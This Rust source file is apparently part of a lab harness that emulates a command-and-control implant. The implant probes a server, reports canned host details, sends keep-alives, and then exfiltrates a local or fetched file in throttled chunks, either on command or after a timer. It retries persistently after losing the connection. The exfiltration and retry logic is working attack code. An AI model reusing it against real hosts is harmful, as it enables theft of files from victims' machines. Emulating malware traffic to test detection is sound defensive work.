//! The implant on a host: probe, machine information, keep-alives, then theft.

use super::intruder::key;
use super::message::{LARGEST_BODY, Message, Segmentation, Setting, wide, write_cut};
use super::{Arguments, Dice, leash, now_ns};
use serde_json::{Value, json};
use std::io::{Error, ErrorKind, Result};
use std::net::{SocketAddr, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// What the implant has tried so far.
#[derive(Clone, Debug, Default)]
struct Deeds {
    connections: u64,
    answered: bool,
    keep_alives: u64,
    bytes_sent: u64,
    theft_chunks_offered: u64,
    theft_bytes_offered: u64,
    loot_bytes: u64,
    attempts_after_loss: u64,
    finished: bool,
    first_sent_at_ns: u64,
    last_error: String,
}

/// How an implant behaves.
#[derive(Clone, Debug)]
struct Habit {
    to: SocketAddr,
    setting: Setting,
    cut: Segmentation,
    keep_alive: Duration,
    /// When it steals by itself, whatever the server says.
    steal_after: Duration,
    file: Option<String>,
    pull: Option<String>,
    bits_per_second: u64,
    stubborn: bool,
}

/// `implant --to ADDR:PORT --setting NAME [--cut NAME] [--seed N] [--keep-alive-ms N] [--steal-after-ms N]
/// [--file PATH | --pull ADDR:PORT/PATH] [--mbit N] [--stubborn yes] [--resolver ADDR --name NAME]`.
pub fn run(arguments: &Arguments) {
    let mut to: SocketAddr = arguments.need("to").parse().expect("--to ADDR:PORT");
    if let (Some(resolver), Some(name)) = (arguments.text("resolver"), arguments.text("name"))
        && let Some(address) = super::dns::ask(resolver, name)
    {
        to.set_ip(address);
    }
    let habit = Habit {
        to,
        setting: Setting::named(arguments.need("setting")),
        cut: Segmentation::named(arguments.text("cut").unwrap_or("whole")),
        keep_alive: Duration::from_millis(arguments.number("keep-alive-ms", 1000)),
        steal_after: Duration::from_millis(arguments.number("steal-after-ms", 0)),
        file: arguments.text("file").map(str::to_owned),
        pull: arguments.text("pull").map(str::to_owned),
        bits_per_second: arguments.number("mbit", 0) * 1_000_000,
        stubborn: arguments.text("stubborn").is_some(),
    };
    let deeds = Arc::new(Mutex::new(Deeds::default()));
    let seed = arguments.number("seed", 1);
    {
        let deeds = Arc::clone(&deeds);
        std::thread::spawn(move || live(&habit, &mut Dice(seed), &deeds));
    }
    leash(&super::ready(), |question| match question {
        "report" => report(&deeds.lock().unwrap()),
        other => json!({"error": format!("unknown question {other}")}),
    });
}

fn report(deeds: &Deeds) -> Value {
    json!({
        "connections": deeds.connections, "answered": deeds.answered, "keep_alives": deeds.keep_alives, "bytes_sent": deeds.bytes_sent,
        "theft_chunks_offered": deeds.theft_chunks_offered, "theft_bytes_offered": deeds.theft_bytes_offered,
        "loot_bytes": deeds.loot_bytes, "attempts_after_loss": deeds.attempts_after_loss, "finished": deeds.finished,
        "first_sent_at_ns": deeds.first_sent_at_ns, "last_error": deeds.last_error,
    })
}

/// Lives until the theft is done; a stubborn implant tries again for as long as it may.
fn live(habit: &Habit, dice: &mut Dice, deeds_of: &Mutex<Deeds>) {
    let born = Instant::now();
    let mut loot = None;
    loop {
        match session(habit, dice, deeds_of, born) {
            Ok(()) => {
                deeds_of.lock().unwrap().finished = true;
                return;
            }
            Err(error) => {
                let mut deeds = deeds_of.lock().unwrap();
                deeds.last_error = error.to_string();
                if !habit.stubborn {
                    deeds.finished = true;
                    return;
                }
                deeds.attempts_after_loss += 1;
                drop(deeds);
                // Cut off, it collects what it came for all the same, and goes on trying to send it.
                if !habit.steal_after.is_zero()
                    && born.elapsed() >= habit.steal_after
                    && loot.is_none()
                {
                    loot = gather(habit, deeds_of).ok();
                }
            }
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

struct Line<'a> {
    stream: TcpStream,
    habit: &'a Habit,
    dice: &'a mut Dice,
    deeds: &'a Mutex<Deeds>,
}

impl Line<'_> {
    fn say(&mut self, messages: &[Message]) -> Result<()> {
        let bytes: Vec<Vec<u8>> = messages
            .iter()
            .map(|message| message.encipher(self.habit.setting, key(self.dice)))
            .collect();
        {
            let mut deeds = self.deeds.lock().unwrap();
            if deeds.first_sent_at_ns == 0 {
                deeds.first_sent_at_ns = now_ns();
            }
        }
        write_cut(&mut self.stream, &bytes, self.habit.cut)?;
        self.deeds.lock().unwrap().bytes_sent += bytes.iter().map(Vec::len).sum::<usize>() as u64;
        Ok(())
    }

    fn hear(&mut self) -> Result<Message> {
        Message::read(&mut self.stream, self.habit.setting)
    }
}

fn session(habit: &Habit, dice: &mut Dice, deeds: &Mutex<Deeds>, born: Instant) -> Result<()> {
    let stream = TcpStream::connect_timeout(&habit.to, Duration::from_millis(1500))?;
    stream.set_nodelay(true)?;
    stream.set_write_timeout(Some(Duration::from_secs(2)))?;
    stream.set_read_timeout(Some(Duration::from_millis(1500)))?;
    deeds.lock().unwrap().connections += 1;
    let mut line = Line { stream, habit, dice, deeds };
    let machine = Message { command: 1, body: machine_information() };
    if habit.cut == Segmentation::TwoInOne {
        line.say(&[Message::empty(0), machine])?;
        line.hear()?;
    } else {
        line.say(&[Message::empty(0)])?;
        line.hear()?;
        line.say(&[machine])?;
    }
    deeds.lock().unwrap().answered = true;
    loop {
        line.say(&[Message::empty(2)])?;
        deeds.lock().unwrap().keep_alives += 1;
        let wait = Instant::now();
        let mut ordered = line.hear()?.command == 0x3004;
        let steal = !habit.steal_after.is_zero() && born.elapsed() >= habit.steal_after;
        while !ordered && !steal && wait.elapsed() < habit.keep_alive {
            line.stream.set_read_timeout(Some(
                habit.keep_alive.saturating_sub(wait.elapsed()).max(Duration::from_millis(1)),
            ))?;
            match line.hear() {
                Ok(message) => ordered = message.command == 0x3004,
                Err(error)
                    if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
                Err(error) => return Err(error),
            }
        }
        line.stream.set_read_timeout(Some(Duration::from_millis(1500)))?;
        if ordered || steal {
            return theft(&mut line);
        }
    }
}

/// Reads the file, or pulls it from where it lies.
fn gather(habit: &Habit, deeds: &Mutex<Deeds>) -> Result<Vec<u8>> {
    let loot = match (&habit.file, &habit.pull) {
        (Some(file), _) => std::fs::read(file)?,
        (None, Some(from)) => {
            super::http::fetch(from, Duration::from_secs(10)).map_err(Error::other)?
        }
        (None, None) => Vec::new(),
    };
    deeds.lock().unwrap().loot_bytes = loot.len() as u64;
    Ok(loot)
}

fn theft(line: &mut Line<'_>) -> Result<()> {
    let loot = gather(line.habit, line.deeds)?;
    for chunk in loot.chunks(LARGEST_BODY) {
        let began = Instant::now();
        {
            let mut deeds = line.deeds.lock().unwrap();
            deeds.theft_chunks_offered += 1;
            deeds.theft_bytes_offered += chunk.len() as u64;
        }
        line.say(&[Message { command: 0x3005, body: chunk.to_vec() }])?;
        if let Some(micros) =
            (chunk.len() as u64 * 8_000_000).checked_div(line.habit.bits_per_second)
        {
            std::thread::sleep(Duration::from_micros(micros).saturating_sub(began.elapsed()));
        }
    }
    // Closed in order, so that the last chunk arrives before the end does.
    line.stream.shutdown(std::net::Shutdown::Write)?;
    while line.hear().is_ok() {}
    Ok(())
}

/// What the implant tells about its host: name, user and words on the system, as text of 200 to 400 bytes.
fn machine_information() -> Vec<u8> {
    wide(
        &[
            "WEB-1",
            "www-data",
            "Microsoft Windows Server 2012 R2 Standard",
            "6.3.9600",
            "2400 MHz",
            "8192 MB",
            "20140613",
            "group-a",
            "password",
        ]
        .join("\0"),
    )
}

/// `knock --setting NAME`: answers `go ADDR:PORT` by one probe to a fresh destination.
pub fn knock(arguments: &Arguments) {
    let setting = Setting::named(arguments.need("setting"));
    let mut dice = Dice(arguments.number("seed", 5));
    leash(&super::ready(), |question| {
        let Some(to) = question.strip_prefix("go ").and_then(|to| to.parse::<SocketAddr>().ok())
        else {
            return json!({"error": format!("unknown question {question}")});
        };
        match knock_once(to, setting, &mut dice) {
            Ok(at_ns) => json!({"sent_at_ns": at_ns}),
            Err(error) => json!({"error": error.to_string()}),
        }
    });
}

fn knock_once(to: SocketAddr, setting: Setting, dice: &mut Dice) -> Result<u64> {
    let mut stream = TcpStream::connect_timeout(&to, Duration::from_secs(2))?;
    stream.set_nodelay(true)?;
    let at_ns = now_ns();
    write_cut(&mut stream, &[Message::empty(0).encipher(setting, key(dice))], Segmentation::Whole)?;
    stream.set_read_timeout(Some(Duration::from_millis(50)))?;
    // The answer may have been cut off; both are fine here.
    let _answer = Message::read(&mut stream, setting);
    Ok(at_ns)
}
